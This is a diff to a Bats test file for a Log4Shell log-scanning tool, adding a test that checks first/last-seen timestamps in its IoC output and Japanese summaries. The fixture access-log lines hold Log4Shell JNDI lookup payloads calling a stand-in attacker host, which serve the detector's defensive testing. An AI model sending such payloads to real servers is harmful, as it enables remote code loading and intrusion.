@@ -3,6 +3,7 @@
 # family, decoding layers, carriers, callbacks, benign look-alikes,
 # compressed and odd files.
 
+bats_require_minimum_version 1.5.0
 load helpers
 
 setup_file() {
@@ -191,6 +192,27 @@ X
     jq -e '.type == "bundle" and (.objects | length >= 2)
         and any(.objects[]; .pattern == "[domain-name:value = '"'"'x.evil.example'"'"']")
         and all(.objects[]; .spec_version == "2.1" and (.id | startswith("indicator--")))' "$L/iocs.json"
+}
+
+@test "IoC tables: first and last seen in ISO 8601 with the zone (local in text, UTC in --iocs)" {
+    T="$BATS_TEST_TMPDIR/t"; mkdir -p "$T"
+    printf '%s\n' \
+      '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1" 200 5 "-" "c"' \
+      '203.0.113.7 - - [11/Dec/2021:12:30:00 +0100] "GET /?q=${jndi:ldap://x.evil.example/b} HTTP/1.1" 200 5 "-" "c"' \
+      > "$T/access.log"
+    TZ=Asia/Tokyo run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary \
+        --iocs "$T/iocs.csv" "$T/access.log"
+    [ "$status" -eq 1 ]
+    [[ "$output" == *"access.log: 2 hits, first 2021-12-11T19:00:01+09:00, last 2021-12-11T20:30:00+09:00"* ]]
+    ! grep 'hits, first' <<<"$output" | grep -q 'Dec/2021'
+    grep -qF '"file","'"$T"'/access.log","attacked log, first 2021-12-11T10:00:01Z, last 2021-12-11T11:30:00Z","2"' "$T/iocs.csv"
+    TZ=UTC run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary --lang ja "$T/access.log"
+    [[ "$output" == *"初回 2021-12-11T10:00:01Z"* ]]
+    # the summary speaks Japanese from the catalog: counts as 「攻撃 2 件、疑わしい 0 件」
+    grep -qxF '攻撃 2 件、疑わしい 0 件' <<<"$output"
+    grep -qF "access.log：2 件、初回 2021-12-11T10:00:01Z、最終 2021-12-11T11:30:00Z" <<<"$output"
+    grep -qxF '== ログ調査のまとめ（Log4Shell） ==' <<<"$output"
+    ! grep -qE '^(attacks|top source|callback hosts|decoded commands)' <<<"$output"
 }
 
 @test "kensa scan reads logs in log folders, and --log-path adds more" {
